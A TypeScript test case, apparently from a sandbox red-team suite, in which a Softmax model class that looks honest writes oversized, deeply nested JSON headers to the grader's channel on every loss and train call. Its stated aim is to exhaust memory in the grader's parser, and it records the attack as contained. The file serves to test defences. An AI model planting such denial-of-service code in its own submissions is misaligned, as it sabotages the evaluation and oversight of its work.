/*
goal: sends headers as long as allowed, that become hundreds of MiB of objects when the grader parses them
class: exhaust
threats: [A8, A12]
deserves: all
outcome: contained
because: a header is limited in length and depth, and each costs its case and its process
*/
import { Softmax as Honest } from './honest.ts';
import { builtin } from './tools.ts';

const fs = builtin('fs');
const SIZE = (4 << 20) - 64;
const kinds: readonly [string, string, string][] = [
  ['[', '{},', '{}]'],
  ['[', '[],', '[]]'],
  ['[', '[[[[[[]]]]]],', '0]'],
  ['{"a":[', '{"f64":[0,0]},', '0]}'],
  ['', '[', '0'],
  ['[', '"",', '0]'],
  ['{', '"":0,', '"":0}'],
];
let turn = 0;

function act(where: string): void {
  if (where === 'import') return;
  const [open, middle, close] = kinds[turn++ % kinds.length]!;
  let text = open + middle.repeat(Math.floor((SIZE - open.length - close.length) / middle.length)) + close;
  if (middle.startsWith('"')) {
    const pieces: string[] = [];
    let length = 0;
    for (let i = 0; length < SIZE - 32; i++) {
      const piece = `"k${i}":0`;
      pieces.push(piece);
      length += piece.length + 1;
    }
    text = `{${pieces.join(',')}}`;
  }
  const header = new TextEncoder().encode(text);
  const prefix = new Uint8Array(8);
  new DataView(prefix.buffer).setUint32(0, header.length, true);
  fs.writeSync(4, prefix);
  for (let at = 0; at < header.length; ) {
    try {
      at += fs.writeSync(4, header, at, header.length - at);
    } catch (error) {
      if ((error as any).code !== 'EAGAIN') return;
    }
  }
}

export class Softmax extends Honest {
  override loss(X: any, y: any): any {
    act('loss');
    return super.loss(X, y);
  }

  override train(X: any, y: any, options: any = {}): any {
    act('train');
    return super.train(X, y, options);
  }
}
